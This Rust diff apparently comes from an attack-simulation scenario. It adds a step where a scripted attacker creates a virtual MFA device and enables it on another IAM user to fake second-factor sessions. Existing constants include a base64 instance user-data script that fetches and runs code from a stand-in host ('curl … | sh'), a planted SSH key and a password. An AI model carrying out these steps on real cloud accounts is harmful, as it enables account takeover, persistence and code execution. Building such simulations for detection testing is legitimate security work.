@@ -16,6 +16,9 @@ const EXPORTS: &str = "customer-exports-111122223333";
 const KEY_PAIR: &str = "k";
 /// The attacker's own identity provider.
 const PROVIDER: &str = "id.example.org";
+/// The MFA device that the attacker makes, and the user whom it is put on.
+const DEVICE: &str = "pixel-7";
+const ENROLLED: &str = "release-bot";
 const PASSWORD: &str = "Tr0ub4dor&3-and-more";
 const PUBLIC_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyhunterKeyhunterKeyhunterKeyhunter k";
 const USER_DATA: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLm9yZy94IHwgc2gK";
@@ -28,22 +31,23 @@ pub(in crate::scenario) type Deed<'a> = Pin<Box<dyn Future<Output = ()> + Send +
 
 impl Attacker {
     /// How many deeds there are.
-    pub(in crate::scenario) const DEEDS: usize = 11;
+    pub(in crate::scenario) const DEEDS: usize = 12;
 
     /// The deed of this number; nothing for one that there is not.
     pub(in crate::scenario) fn deed(&mut self, number: usize) -> Deed<'_> {
         match number {
             0 => Box::pin(self.make_user()),
-            1 => Box::pin(self.change_trust()),
-            2 => Box::pin(self.make_function()),
-            3 => Box::pin(self.open_url()),
-            4 => Box::pin(self.schedule()),
-            5 => Box::pin(self.vouch()),
-            6 => Box::pin(self.open_door()),
-            7 => Box::pin(self.run_instance()),
-            8 => Box::pin(self.read_secrets()),
-            9 => Box::pin(self.share_snapshot()),
-            10 => Box::pin(self.stop_watching()),
+            1 => Box::pin(self.enrol_device()),
+            2 => Box::pin(self.change_trust()),
+            3 => Box::pin(self.make_function()),
+            4 => Box::pin(self.open_url()),
+            5 => Box::pin(self.schedule()),
+            6 => Box::pin(self.vouch()),
+            7 => Box::pin(self.open_door()),
+            8 => Box::pin(self.run_instance()),
+            9 => Box::pin(self.read_secrets()),
+            10 => Box::pin(self.share_snapshot()),
+            11 => Box::pin(self.stop_watching()),
             _ => Box::pin(std::future::ready(())),
         }
     }
@@ -74,6 +78,21 @@ impl Attacker {
             };
             Means::new(&self.aws_url, pair, super::ORIGIN).ok()
         });
+    }
+
+    /// Puts an MFA device on somebody else's user, so that sessions of it pass for ones with a second factor.
+    async fn enrol_device(&mut self) {
+        let iam = self.key.iam();
+        let made = iam.create_virtual_mfa_device().virtual_mfa_device_name(DEVICE).send().await;
+        let serial = |made: &aws_sdk_iam::operation::create_virtual_mfa_device::CreateVirtualMfaDeviceOutput| {
+            made.virtual_mfa_device().map(|device| device.serial_number().to_owned()).unwrap_or_default()
+        };
+        self.show(&format!("aws iam create-virtual-mfa-device --virtual-mfa-device-name {DEVICE} …"), &made, serial);
+        let serial = made.as_ref().map(serial).unwrap_or_default();
+        let enabled = iam.enable_mfa_device().user_name(ENROLLED).serial_number(&serial);
+        let enabled = enabled.authentication_code1("491827").authentication_code2("730164").send().await;
+        let call = format!("aws iam enable-mfa-device --user-name {ENROLLED} --serial-number {serial} …");
+        self.show(&call, &enabled, |_| format!("a second factor of {ENROLLED}"));
     }
 
     async fn change_trust(&mut self) {
